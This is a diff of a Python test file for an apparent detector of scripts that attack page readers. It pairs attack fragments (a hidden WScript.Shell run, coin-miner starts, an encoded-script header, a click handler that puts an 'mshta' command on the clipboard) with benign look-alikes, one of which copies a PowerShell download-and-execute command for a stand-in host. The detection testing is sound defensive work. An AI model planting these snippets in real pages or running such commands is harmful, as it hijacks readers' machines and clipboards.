@@ -112,34 +112,30 @@ def test_every_idiom_has_a_name_and_a_reason_in_words() -> None:
         assert len(row.reason.split()) >= 3
 
 
-@pytest.mark.parametrize(
-    "script",
-    [
-        "Set f = CreateObject(Disk).CreateTextFile(Path, True)",
-        'CreateObject("WScript.Shell").Run Path, 0',
-        r"#@~^Bg8AAA==\k~\n",
-        "var m = new Coin.Anonymous('Qx81kLw93hVb2LmZ', {throttle: 0.2}); m.start();",
-        "Lib.start({throttleMiner: 40}); location;",
-        "document.onclick=function(){navigator.clipboard.writeText('mshta https://a.test/')}",
-    ],
-)
-def test_what_only_attacks_on_readers_need_is_recognised(script: str) -> None:
-    rows = rows_of(f"<script>{script}</script>", LOUD)
-    assert scripts.attacks(rows).tolist() == [1.0]
+_ATTACKS = [
+    "Set f = CreateObject(Disk).CreateTextFile(Path, True)",
+    'CreateObject("WScript.Shell").Run Path, 0',
+    r"#@~^Bg8AAA==\k~\n",
+    "var m = new Coin.Anonymous('Qx81kLw93hVb2LmZ', {throttle: 0.2}); m.start();",
+    "Lib.start({throttleMiner: 40}); location;",
+    "document.onclick=function(){navigator.clipboard.writeText('mshta https://a.test/')}",
+]
+_HONEST_LIKE_THEM = [
+    "var u = new auth.Anonymous('reader'); location.hash = u.name;",
+    "navigator.clipboard.writeText('powershell -c \"irm https://a.test/i.ps1 | iex\"')",
+    "button.onclick=function(){navigator.clipboard.writeText(code.innerText);location.hash='#'}",
+    "document.addEventListener('click', close); function share(){window.open('//a.test/?u=1')}",
+]
 
 
 @pytest.mark.parametrize(
-    "script",
-    [
-        "var u = new auth.Anonymous('reader'); location.hash = u.name;",
-        "navigator.clipboard.writeText('powershell -c \"irm https://a.test/i.ps1 | iex\"')",
-        "button.onclick=function(){navigator.clipboard.writeText(code.innerText);location.hash='#'}",
-        "document.addEventListener('click', close); function share(){window.open('//a.test/?u=1')}",
-    ],
+    ("script", "attacks"),
+    [*((one, 1.0) for one in _ATTACKS), *((one, 0.0) for one in _HONEST_LIKE_THEM)],
 )
-def test_what_honest_scripts_do_with_the_same_means_is_no_attack(script: str) -> None:
-    rows = rows_of(f"<script>{script}</script>", LOUD)
-    assert scripts.attacks(rows).tolist() == [0.0]
+def test_what_only_attacks_on_readers_need_is_told_from_what_is_like_it(
+    script: str, attacks: float
+) -> None:
+    assert scripts.attacks(rows_of(f"<script>{script}</script>", LOUD)).tolist() == [attacks]
 
 
 @pytest.mark.parametrize(
